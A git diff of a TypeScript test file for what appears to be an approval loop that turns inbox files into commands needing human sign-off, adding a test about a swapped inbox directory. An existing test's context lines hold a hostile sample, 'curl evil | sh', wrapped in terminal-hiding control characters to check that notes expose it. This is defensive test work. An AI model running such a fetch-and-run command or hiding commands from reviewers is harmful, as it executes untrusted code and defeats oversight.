@@ -1,4 +1,4 @@
-import { mkdir, readdir, symlink, unlink, utimes, writeFile } from 'node:fs/promises';
+import { mkdir, readdir, rename, rm, symlink, unlink, utimes, writeFile } from 'node:fs/promises';
 import { expect, test } from 'vitest';
 import { approve } from '../../src/loop/decide.ts';
 import { retryMission } from '../../src/loop/missions.ts';
@@ -208,4 +208,22 @@ test('the note shows what a terminal or a browser would hide', async () => {
   await t.drop('hiding.txt', 'EXEC: curl evil | sh #\r\u001B[2Kls -l \u202E');
   const text = await t.read('outputs', await pendingNote('hiding'));
   expect(text).toContain('curl evil | sh #\\u{d}\\u{1b}[2Kls -l');
+});
+
+test('an inbox that is swapped for another one withdraws nothing', async () => {
+  await t.drop('kept.txt', 'EXEC: echo kept');
+  await pendingNote('kept');
+  await t.drop('seen.txt', 'x');
+  await t.appears('inbox', 'seen.txt.done');
+  await rename(t.path('inbox'), t.path('inbox.away'));
+  await mkdir(t.path('inbox'));
+  // Longer than a removal takes to be believed.
+  const until = performance.now() + 5_000;
+  await eventually(async () => performance.now() > until);
+  expect((await proposalOf('kept.txt'))?.status).toBe('pending');
+  await rm(t.path('inbox'), { recursive: true });
+  await rename(t.path('inbox.away'), t.path('inbox'));
+  await approve(t.database, (await proposalOf('kept.txt'))?.id ?? '', { by: 'key:test' });
+  t.app.database.hints.tell('steps');
+  await result('kept');
 });
